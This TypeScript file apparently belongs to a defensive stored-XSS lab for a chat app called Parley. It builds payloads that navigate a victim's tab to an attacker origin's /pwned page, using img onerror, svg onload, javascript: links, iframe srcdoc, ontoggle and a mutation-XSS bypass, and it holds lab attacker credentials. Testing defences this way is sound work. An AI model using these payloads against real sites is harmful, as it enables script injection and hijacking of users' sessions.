// What the stored-XSS page posts: the test suite's payload list (test/fixtures/xss-payloads.ts,
// one list for the unit tests, the browser tests and the lab), plus "beacon" variants that
// would navigate the victim's tab to the attacker's /pwned page if they ever ran. Navigation
// is not governed by the CSP, so a beacon would get through if script execution did: the
// lab counts beacon hits, and the count must stay at zero.
import { XSS_PAYLOADS } from '../test/fixtures/xss-payloads.ts';

/** The attacker's own Parley account (a normal user: stored XSS needs no special access). */
export const MALLORY = { username: 'mallory', password: 'attacker lab passphrase 1' } as const;

export type LabPayload = { name: string; text: string };

/** Visible text in front of every payload, so the victim sees each one arrive, inert. */
export function marker(index: number, total: number, name: string): string {
  return `[xss ${index + 1}/${total}: ${name}] `;
}

export function beaconPayloads(attackerOrigin: string): Array<{ name: string; input: string }> {
  const go = (via: string) => `location='${attackerOrigin}/pwned?via=${via}'`;
  return [
    { name: 'beacon: img onerror', input: `<img src=x onerror="${go('img-onerror')}">` },
    { name: 'beacon: svg onload', input: `<svg onload="${go('svg-onload')}">` },
    { name: 'beacon: javascript: link', input: `<a href="javascript:${go('javascript-url')}">click me</a>` },
    { name: 'beacon: iframe srcdoc', input: `<iframe srcdoc="<script>top.${go('srcdoc')}</script>"></iframe>` },
    { name: 'beacon: details ontoggle', input: `<details open ontoggle="${go('ontoggle')}">` },
    { name: 'beacon: mXSS math/style', input: `<math><mtext><table><mglyph><style><img src=x onerror="${go('mxss')}">` },
  ];
}

export function labPayloads(attackerOrigin: string): LabPayload[] {
  const all = [...XSS_PAYLOADS, ...beaconPayloads(attackerOrigin)];
  return all.map((payload, index) => ({ name: payload.name, text: marker(index, all.length, payload.name) + payload.input }));
}
